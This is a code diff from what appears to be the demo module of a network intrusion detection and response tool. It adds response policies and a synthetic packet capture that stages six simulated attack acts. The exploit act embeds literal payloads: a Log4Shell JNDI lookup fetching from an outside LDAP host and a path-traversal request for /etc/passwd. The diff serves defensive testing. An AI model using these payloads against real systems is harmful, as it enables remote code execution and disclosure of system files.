@@ -110,6 +110,68 @@ alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"GW-DEMO Windows executable d
 alert icmp $EXTERNAL_NET any -> $HOME_NET any (msg:"GW-DEMO ICMP echo from outside (informational)"; itype:8; threshold: type limit, track by_src, count 1, seconds 3600; classtype:misc-activity; sid:9000008; rev:1;)
 "#;
 
+/// The demo's response policies (written to `response.toml` beside the capture). They
+/// run in dry-run: the demo changes no firewall.
+pub const RESPONSE: &str = r#"# Response policies of the Gatewatch demo. `gatewatch demo` runs them in dry-run.
+# Copy the [response] section into a configuration file to use them for real.
+[response]
+max_blocks_per_minute = 20
+pardon = "24h"
+
+[response.allowlists]
+# The province's DNS resolvers and the SOC's own network are never blocked.
+resolvers = ["10.46.1.53"]
+soc = ["10.46.1.0/28"]
+# Critical systems (from the asset inventory) and the province's domains.
+critical = ["criticality:critical", "level:4", "hue.gov.vn"]
+
+[response.actions.edge-firewall]
+kind = "nft"
+table = "gatewatch"
+create = true
+
+[response.actions.dns-sinkhole]
+kind = "program"
+block = ["/usr/local/sbin/gw-sinkhole", "add", "{target}", "{ttl}"]
+unblock = ["/usr/local/sbin/gw-sinkhole", "del", "{target}"]
+
+[[response.policies]]
+name = "block-external-attackers"
+mode = "enforce"
+action = "edge-firewall"
+target = "source"
+classes = ["intrusion-attempts", "intrusions"]
+min_score = 50
+ttl = "1h"
+max_ttl = "7d"
+
+[[response.policies]]
+name = "cut-command-and-control"
+mode = "enforce"
+action = "edge-firewall"
+target = "destination"
+classes = ["malicious-code"]
+zones = ["external", "internal"]
+ttl = "6h"
+
+[[response.policies]]
+name = "sinkhole-malware-domains"
+mode = "enforce"
+action = "dns-sinkhole"
+target = "domain"
+classes = ["malicious-code"]
+ttl = "1d"
+
+[[response.policies]]
+name = "quarantine-infected-host"
+mode = "approve"
+action = "edge-firewall"
+target = "host"
+classes = ["malicious-code"]
+min_score = 50
+ttl = "4h"
+"#;
+
 fn sa(ip: Ipv4Addr, port: u16) -> SocketAddrV4 {
     SocketAddrV4::new(ip, port)
 }
@@ -118,12 +180,21 @@ fn secs(s: i64) -> i64 {
     START_US + s * 1_000_000
 }
 
-/// Builds the demo capture.
+/// Builds the demo capture: ordinary traffic, then the six acts of the scenario.
 pub fn capture() -> Capture {
     let mut cap = Capture::default();
     background(&mut cap);
+    scan(&mut cap);
+    ssh_guessing(&mut cap);
+    exploits(&mut cap);
+    malware_lookups(&mut cap);
+    beacons(&mut cap);
+    download(&mut cap);
+    cap
+}
 
-    // Act 1 — 08:00: a SYN sweep of the finance portal, 200 ports.
+/// Act 1 — 08:00: an ICMP probe, then a SYN sweep of the finance portal, 200 ports.
+fn scan(cap: &mut Capture) {
     for (i, port) in (1..=200u16).map(|p| p * 5).enumerate() {
         let mut s = TcpSession::new(
             sa(SCANNER, 40_000 + i as u16),
@@ -137,7 +208,6 @@ pub fn capture() -> Capture {
         }
         cap.add(s.into_frames());
     }
-    // An ICMP probe first.
     for seq in 0..3u16 {
         let e = icmp_echo(true, 0x4a4a, seq, b"gatewatch-probe");
         cap.push(secs(5) + seq as i64 * 1_000_000, eth_ipv4(SCANNER, PORTAL, 1, &e, 100 + seq));
@@ -147,8 +217,10 @@ pub fn capture() -> Capture {
             eth_ipv4(PORTAL, SCANNER, 1, &r, 200 + seq),
         );
     }
+}
 
-    // Act 2 — 08:05: SSH password guessing against the health department's server.
+/// Act 2 — 08:05: SSH password guessing against the health department's server.
+fn ssh_guessing(cap: &mut Capture) {
     for i in 0..30u16 {
         let mut s = TcpSession::new(
             sa(BRUTEFORCER, 51_000 + i),
@@ -163,8 +235,10 @@ pub fn capture() -> Capture {
             .close();
         cap.add(s.into_frames());
     }
+}
 
-    // Act 3 — 08:10: exploit attempts against the portal.
+/// Act 3 — 08:10: exploit attempts against the portal.
+fn exploits(cap: &mut Capture) {
     let exploits: [&[u8]; 3] = [
         b"GET /?search=${jndi:ldap://203.0.113.77:1389/Exploit} HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nUser-Agent: ${jndi:ldap://203.0.113.77:1389/a}\r\nAccept: */*\r\n\r\n",
         b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n",
@@ -184,8 +258,10 @@ pub fn capture() -> Capture {
         s.handshake().client_send(req).server_send(status).close();
         cap.add(s.into_frames());
     }
+}
 
-    // Act 4 — 08:20: the commune workstation resolves the malware domain.
+/// Act 4 — 08:20: the commune workstation resolves the malware domain.
+fn malware_lookups(cap: &mut Capture) {
     for i in 0..4u16 {
         let q = dns_message(0x5100 + i, C2_NAME, None);
         let a = dns_message(0x5100 + i, C2_NAME, Some(C2));
@@ -211,8 +287,10 @@ pub fn capture() -> Capture {
             ),
         );
     }
+}
 
-    // Act 5 — 08:21: TLS beacons to the C2 server, once a minute.
+/// Act 5 — 08:21: TLS beacons to the C2 server, once a minute.
+fn beacons(cap: &mut Capture) {
     for i in 0..5u16 {
         let mut s = TcpSession::new(
             sa(WORKSTATION, 49_700 + i),
@@ -225,8 +303,10 @@ pub fn capture() -> Capture {
             .close();
         cap.add(s.into_frames());
     }
+}
 
-    // Act 6 — 08:30: the workstation downloads an executable.
+/// Act 6 — 08:30: the workstation downloads an executable.
+fn download(cap: &mut Capture) {
     let mut body = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
     body.extend_from_slice(&[0u8; 48]);
     body.extend_from_slice(b"This program cannot be run in DOS mode.\r\r\n$");
@@ -243,7 +323,6 @@ pub fn capture() -> Capture {
         .server_send(&resp)
         .close();
     cap.add(s.into_frames());
-    cap
 }
 
 /// Ordinary traffic: citizens' portal visits, DNS of government names, pings.
